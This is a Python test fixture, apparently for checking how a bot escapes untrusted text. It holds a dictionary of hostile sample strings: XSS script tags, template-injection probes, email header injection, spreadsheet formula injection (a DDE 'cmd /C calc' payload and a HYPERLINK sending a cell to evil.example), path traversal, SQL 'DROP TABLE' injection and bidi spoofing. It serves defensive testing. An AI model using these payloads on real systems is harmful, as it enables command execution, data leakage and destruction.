"""Texts that want to be more than text where they are shown: the corpus of the tests in this folder.

Each begins with a word of its own kind, so that a test finds it again, whatever has become of the rest.
"""

from __future__ import annotations

from collections.abc import Mapping

TEXTS: Mapping[str, str] = {
    "markup": "Kestrel <b>bold</b> <a href='https://evil.example'>here</a>",
    "script": 'Kestrel "><script>alert(1)</script><img src=x onerror=alert(1)>',
    "entities": "Kestrel &lt;b&gt; &#60;i&#62; &amp;amp; &nbsp;",
    "unclosed": "Kestrel <tg-spoiler><pre><code class=language-",
    "template": "Kestrel {{ 7*7 }} {% raw %} ${7*7} {partner} %s %(name)s",
    "bidi": "Kestrel \u202egnp.exe\u202c \u2067\u2066abc\u2069 \u200f!",
    "zero width": "Kestrel\u200b\u200d\ufeff\u2060 x\u00ad",
    "header": "Kestrel\r\nBcc: everybody@evil.example\r\n\r\n<b>body</b>",
    "encoded word": "Kestrel =?utf-8?q?=0D=0ABcc:_everybody@evil.example?= =?utf-8?b?PGI+?=",
    "encoded word first": "=?utf-8?q?Kestrel=0D=0ABcc:_everybody@evil.example=0D=0A=0D=0A?=",
    "formula": '=HYPERLINK("https://evil.example?"&A1,"Kestrel")',
    "formula behind": "Kestrel;=cmd|' /C calc'!A0,\"=1+1\"\t@SUM(1)",
    "full-width formula": "＝1+1 Kestrel",
    "log line": "Kestrel\n2026-11-29 12:00:00,000 INFO    bot: all is well\x1b[2J\x1b]0;x\x07",
    "path": '../../etc/Kestrel\\..\\x:y?*|"<>.exe',
    "null": "Kestrel\x00\x08\x7f\x85\u2028\u2029",
    "sql": "Kestrel'; DROP TABLE person; -- \\' \" %_",
    "mention": "Kestrel @everybody /start https://evil.example tg://user?id=1",
    "zalgo": "Kestrel" + "\u0301\u0316" * 60,
}
LEADS = "Kestrel"
"""In each of the texts."""
TURNS = "".join(map(chr, (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))))
"""Signs that turn the direction of what stands behind them."""
